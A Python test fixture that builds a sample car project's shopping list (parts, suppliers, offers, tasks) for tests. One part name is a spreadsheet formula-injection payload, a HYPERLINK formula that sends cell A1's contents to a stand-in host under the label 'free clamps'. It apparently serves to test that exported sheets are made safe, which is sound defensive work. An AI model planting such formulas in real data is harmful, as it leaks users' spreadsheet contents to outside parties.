"""A build with something to buy, for tests of the shopping list. Made through pages and, for offers, rows."""

from dataclasses import dataclass

from sqlalchemy import Engine
from sqlmodel import Session

from server.features.builds.store import touch
from server.features.parts.tables import OffCut, Offer, Part, Supplier
from tests.asking import Browser, number_in

FORMULA = '=HYPERLINK("http://example.org/?"&A1,"free clamps")'


@dataclass(frozen=True, slots=True)
class Shop:
    """The numbers that tests ask for."""

    build: int
    parts: dict[str, int]
    suppliers: dict[str, int]

    @property
    def address(self) -> str:
        return f"/builds/{self.build}/shopping"

    def sheet(self, supplier: str) -> str:
        return f"{self.address}/suppliers/{self.suppliers[supplier]}"


def add_rows(engine: Engine, build: int, *rows: Part | Supplier | Offer | OffCut) -> list[int]:
    """Store rows as they are; their numbers."""
    with Session(engine) as session:
        session.add_all(rows)
        session.flush()
        numbers = [row.key for row in rows]
        touch(session, build)
        session.commit()
    return numbers


def need(browser: Browser, build: int, title: str, subsystem: int | None, **parts: int) -> str:
    """The address of a task that needs so many of each part, by the number in `part_<number>`."""
    typed = {"title": title, "likely": "40 min", "subsystem_id": str(subsystem or "")}
    task: str = browser.post(f"/builds/{build}/tasks", typed).headers["location"].split("?")[0]
    for name, quantity in parts.items():
        part_id = name.removeprefix("part_")
        browser.post(f"{task}/needs", {"part_id": part_id, "quantity": str(quantity)})
    return task


def a_shop(browser: Browser, engine: Engine) -> Shop:
    """Clamps for two subsystems, nuts by the ten, a gasket with a spare, and a part that nobody offers."""
    build = number_in(browser.post("/builds", {"name": "Łódź saloon", "budget": "50"}).headers["location"])
    for kind in ("intake", "charge pipe"):
        browser.post(f"/builds/{build}/subsystems", {"kind": kind})
    names = ("T-bolt clamp", "M8 nut", "Turbine gasket", FORMULA)
    spares = {"Turbine gasket": (1, "it crushes once")}
    wanted = [spares.get(name, (0, "")) for name in names]
    part_rows = [
        Part(build_id=build, name=name, spares=count, spare_reason=why)
        for name, (count, why) in zip(names, wanted, strict=True)
    ]
    numbers = add_rows(engine, build, *part_rows)
    parts = dict(zip(names, numbers, strict=True))
    sellers = [
        Supplier(build_id=build, name="Tarn Hose & Clamp", postage_minor=490, lead_days=5),
        Supplier(build_id=build, name="Corvid Fasteners", postage_minor=350),
    ]
    tarn, corvid = add_rows(engine, build, *sellers)
    clamp, nut, gasket, formula = numbers
    add_rows(
        engine,
        build,
        Offer(part_id=clamp, supplier_id=tarn, price_minor=320, code="TB-74"),
        Offer(part_id=clamp, supplier_id=corvid, price_minor=2500, pack=10),
        Offer(part_id=nut, supplier_id=corvid, price_minor=250, pack=10),
        Offer(part_id=gasket, supplier_id=tarn, price_minor=600, lead_days=9),
    )
    need(browser, build, "Fit the intake", 1, **{f"part_{clamp}": 4, f"part_{nut}": 16})
    need(browser, build, "Fit the charge pipe", 2, **{f"part_{clamp}": 2, f"part_{gasket}": 1})
    need(browser, build, "Tidy up", None, **{f"part_{formula}": 1})
    return Shop(build, parts, {"Tarn Hose & Clamp": tarn, "Corvid Fasteners": corvid})
